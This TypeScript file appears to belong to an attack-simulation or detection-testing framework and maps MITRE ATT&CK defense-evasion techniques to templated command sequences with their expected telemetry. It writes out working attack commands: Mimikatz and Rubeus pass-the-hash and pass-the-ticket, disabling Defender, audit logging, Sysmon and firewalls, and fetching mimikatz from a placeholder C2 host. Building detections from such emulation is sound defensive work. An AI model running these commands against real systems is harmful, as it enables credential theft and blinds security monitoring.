import { t, v } from "../dsl";
import { trustControls } from "./defense-evasion-trust";

const DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender";
/** Defender's own configuration (written only by MsMpEng.exe). */
const MP = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender";
const RTP = `${MP}\\Real-Time Protection`;
const EXCLUSIONS = `${MP}\\Exclusions`;
const EXPLORER_ADVANCED = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced";

/** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. */
export const defenseEvasion3 = [
  t("T1550", "Alternate authentication material", "Hashes or tickets used instead of passwords.", [
    // sekurlsa::pth patches the new logon session's credentials and starts the /run process in it.
    v(
      "mimikatz-pth",
      [
        {
          cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{{admin}} /domain:{{dns}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /run:cmd.exe" exit',
          as: "mk",
          access: ["@lsass", "0x1038"],
          then: [
            {
              id: "l",
              kind: "logon",
              session: "pth",
              user: "@admin",
              logonType: 9,
              authPackage: "Negotiate",
            },
          ],
        },
        { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "mk" },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1550.002",
    "Pass the hash",
    "NTLM hash reuse: Mimikatz sekurlsa::pth (logon type 9 with seclogo) and Impacket-style remote NTLM logons.",
    [
      v(
        "mimikatz-pth",
        [
          {
            cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{{admin}} /domain:{{domain}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}}" exit',
            access: ["@lsass", "0x1038"],
            then: [
              {
                id: "l",
                kind: "logon",
                session: "pth",
                user: "@admin",
                logonType: 9,
                authPackage: "Negotiate",
              },
            ],
          },
        ],
        { elevated: true },
      ),
      v("ntlm-network", [
        {
          cmd: "{{tools}}\\wmiexec.exe -hashes :{{rand2}}{{rand2}}{{rand2}}{{rand2}} {{domain}}/{{admin}}@{{srvip}}",
          net: [["@server", 445]],
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "pthnet",
              user: "@admin",
              logonType: 3,
              source: "@workstation",
              authPackage: "NTLM",
            },
          ],
        },
      ]),
      v(
        "invoke-thehash",
        [
          {
            ps: "Invoke-SMBExec -Target {{srvip}} -Domain {{domain}} -Username {{admin}} -Hash {{rand2}}{{rand2}}{{rand2}}{{rand2}} -Command 'whoami' -verbose",
            net: [["@server", 445]],
            then: [
              {
                id: "l",
                kind: "logon",
                host: "@server",
                session: "pthsmb",
                user: "@admin",
                logonType: 3,
                source: "@workstation",
                authPackage: "NTLM",
              },
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1550.003", "Pass the ticket", "Kerberos tickets imported with Rubeus ptt or Mimikatz kerberos::ptt.", [
    v("rubeus-ptt", [
      {
        cmd: "{{tools}}\\Rubeus.exe ptt /ticket:{{tmp}}\\{{admin}}.kirbi",
        then: [
          {
            id: "tgs",
            kind: "kerberos.tgs",
            host: "@dc",
            user: "@admin",
            service: "@server",
            source: "@workstation",
          },
        ],
      },
    ]),
    // Opsec form: a sacrificial netonly logon session (type 9) so the imported ticket does not clobber the
    // operator's own, then the ticket passed into that session's LUID.
    v("rubeus-createnetonly", [
      {
        cmd: "{{tools}}\\Rubeus.exe createnetonly /program:C:\\Windows\\System32\\cmd.exe /show",
        as: "rb",
        then: [
          {
            id: "l",
            kind: "logon",
            session: "netonly",
            user: "@user",
            logonType: 9,
            authPackage: "Negotiate",
          },
        ],
      },
      { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "rb", keep: true },
      {
        cmd: "{{tools}}\\Rubeus.exe ptt /luid:0x{{rand}} /ticket:{{tmp}}\\{{admin}}.kirbi",
        then: [
          {
            id: "tgs",
            kind: "kerberos.tgs",
            host: "@dc",
            user: "@admin",
            service: "@server",
            source: "@workstation",
          },
        ],
      },
    ]),
    v("mimikatz-ptt", [
      '{{tools}}\\mimikatz.exe "kerberos::ptt {{tmp}}\\[0;3e7]-2-0-40e10000-{{admin}}@krbtgt-{{dns}}.kirbi" exit',
      "klist",
    ]),
  ]),
  ...trustControls,
  t("T1562", "Impair defenses", "Security tooling weakened before the main action.", [
    // Defender's service writes the value itself (Sysmon 13 from MsMpEng.exe), then logs 5007 and 5001.
    v(
      "set-mppreference",
      [
        {
          ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
          defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
        },
      ],
      { shell: "ps", elevated: true },
    ),
    // Tamper Protection refuses the change (5013, nothing written); local exclusions are not protected on an
    // unmanaged device, so the operator falls back to excluding the staging folder.
    v(
      "tamper-blocked-exclusion",
      [
        {
          ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
          defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
          tamper: true,
        },
        { ps: "Get-MpComputerStatus | Select RealTimeProtectionEnabled, IsTamperProtected" },
        {
          ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\{{name}}'",
          defender: [[`${EXCLUSIONS}\\Paths`, "C:\\ProgramData\\{{name}}", "0"]],
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ]),
  t(
    "T1562.001",
    "Disable or modify tools",
    "Defender disabled with Set-MpPreference, exclusions added, services stopped, policy keys set.",
    [
      v(
        "set-mppreference",
        [
          {
            ps: "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true",
            defender: [
              [RTP, "DisableRealtimeMonitoring", "1"],
              [RTP, "DisableBehaviorMonitoring", "1"],
              [RTP, "DisableIOAVProtection", "1"],
            ],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "add-exclusion",
        [
          {
            ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData', $env:TEMP -ExclusionExtension exe,dll",
            defender: [
              [`${EXCLUSIONS}\\Paths`, "C:\\ProgramData", "0"],
              [`${EXCLUSIONS}\\Paths`, "{{tmp}}", "0"],
              [`${EXCLUSIONS}\\Extensions`, "exe", "0"],
              [`${EXCLUSIONS}\\Extensions`, "dll", "0"],
            ],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      // Real-time protection quarantines the freshly downloaded mimikatz (1116/1117); the operator turns it off
      // and fetches the tool again (a sequence DFIR reports show again and again).
      v(
        "quarantined-then-disabled",
        [
          {
            ps: "Invoke-WebRequest https://{{c2}}/m.exe -OutFile C:\\Users\\Public\\mimikatz.exe",
            net: [["{{c2}}", 443]],
            files: ["C:\\Users\\Public\\mimikatz.exe"],
            then: [
              {
                id: "av",
                kind: "defender.detection",
                path: "C:\\Users\\Public\\mimikatz.exe",
                threat: "HackTool:Win32/Mimikatz.D",
              },
            ],
          },
          {
            ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
            defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
          },
          {
            ps: "Invoke-WebRequest https://{{c2}}/m.exe -OutFile C:\\Users\\Public\\mimikatz.exe",
            net: [["{{c2}}", 443]],
            files: ["C:\\Users\\Public\\mimikatz.exe"],
          },
          {
            cmd: 'C:\\Users\\Public\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            access: ["@lsass", "0x1010"],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      // A policy value written with reg.exe: Defender picks the policy up and logs 5007.
      v(
        "reg-disableantispyware",
        [
          {
            cmd: `reg add "${DEFENDER}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
            reg: [[DEFENDER, "DisableAntiSpyware", "1", "REG_DWORD"]],
            defender: [[DEFENDER, "DisableAntiSpyware", "1"]],
          },
        ],
        { elevated: true },
      ),
      v(
        "sc-stop",
        [
          "sc stop WinDefend",
          "sc config WinDefend start= disabled",
          'net stop "Sophos Endpoint Defense Service" /y',
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1562.002", "Disable Windows event logging", "auditpol and EventLog service tampering.", [
    v(
      "auditpol",
      ['auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable', "auditpol /clear /y"],
      { elevated: true },
    ),
    v("sc-eventlog", ["sc config eventlog start= disabled", "net stop eventlog /y"], { elevated: true }),
    v(
      "reg-etw",
      [
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security" /v Start /t REG_DWORD /d 0 /f',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security",
              "Start",
              "0",
              "REG_DWORD",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1562.003", "Impair command history logging", "PSReadLine history disabled or set to nothing.", [
    v("savenothing", [{ ps: "Set-PSReadLineOption -HistorySaveStyle SaveNothing" }], { shell: "ps" }),
    v(
      "scriptblocklogging-off",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging" /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f',
          reg: [
            [
              "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging",
              "EnableScriptBlockLogging",
              "0",
              "REG_DWORD",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1562.004",
    "Disable or modify system firewall",
    "netsh advfirewall off, rules opened for RDP/SMB, Set-NetFirewallProfile.",
    [
      v("netsh-off", ["netsh advfirewall set allprofiles state off"], { elevated: true }),
      v(
        "netsh-rule",
        [
          'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389',
        ],
        { elevated: true },
      ),
      v(
        "set-netfirewallprofile",
        [{ ps: "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False" }],
        { shell: "ps", elevated: true },
      ),
    ],
  ),
  t("T1562.006", "Indicator blocking", "ETW providers or the Sysmon driver silenced.", [
    v(
      "logman-stop",
      [
        'logman update trace "EventLog-Application" --p "Microsoft-Windows-PowerShell" -ets',
        "logman stop EventLog-Security -ets",
      ],
      { elevated: true },
    ),
    v("fltmc-unload", ["fltmc unload SysmonDrv"], { elevated: true }),
  ]),
  t("T1562.009", "Safe mode boot", "bcdedit safeboot set so security tools do not start (ransomware).", [
    v(
      "bcdedit-safeboot",
      [
        "bcdedit /set {default} safeboot network",
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{{name}}" /ve /t REG_SZ /d Service /f',
          reg: [
            ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{{name}}", "(Default)", "Service"],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1562.010", "Downgrade attack", "PowerShell version 2 to avoid script block logging.", [
    v("powershell-v2", [
      // The engine without AMSI or script block logging runs the operator's staged script.
      "powershell.exe -version 2 -nop -ep bypass -File {{tools}}\\{{rand}}.ps1",
    ]),
    v(
      "ntlm-downgrade",
      [
        {
          cmd: "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 2 /f",
          reg: [["HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa", "LmCompatibilityLevel", "2", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1562.011", "Spoof security alerting", "Security Center state faked via registry.", [
    v(
      "reg-wscsvc",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Security Center" /v AntiVirusDisableNotify /t REG_DWORD /d 1 /f',
          reg: [["HKLM\\SOFTWARE\\Microsoft\\Security Center", "AntiVirusDisableNotify", "1", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1564", "Hide artifacts", "Files hidden with attrib +h +s.", [
    v("attrib", ["attrib +h +s {{appdata}}\\{{name}}.exe"]),
  ]),
  t(
    "T1564.001",
    "Hidden files and directories",
    "attrib +h +s on payloads and folders, hidden files kept out of Explorer, folders locked with icacls.",
    [
      v("attrib-hs", [
        "attrib.exe +h +s C:\\ProgramData\\{{rand}}",
        "attrib.exe +h +s C:\\ProgramData\\{{rand}}\\{{name}}.exe",
      ]),
      // Atomic T1564.001 "Hide Files Through Registry", as USB worms and droppers set it for the user.
      v("reg-hide-superhidden", [
        {
          cmd: `reg add ${EXPLORER_ADVANCED} /v ShowSuperHidden /t REG_DWORD /d 0 /f`,
          reg: [[EXPLORER_ADVANCED, "ShowSuperHidden", "0", "REG_DWORD"]],
        },
        {
          cmd: `reg add ${EXPLORER_ADVANCED} /v Hidden /t REG_DWORD /d 2 /f`,
          reg: [[EXPLORER_ADVANCED, "Hidden", "2", "REG_DWORD"]],
        },
      ]),
      v(
        "ps-attributes",
        [{ ps: "(Get-Item C:\\ProgramData\\{{rand}} -Force).Attributes = 'Hidden,System'" }],
        {
          shell: "ps",
        },
      ),
      // Loaders deny Everyone delete rights on their install folder so it cannot be listed or removed.
      v("icacls-deny", ['icacls "{{local}}\\{{name}}" /deny *S-1-1-0:(OI)(CI)(DE,DC)']),
    ],
  ),
];
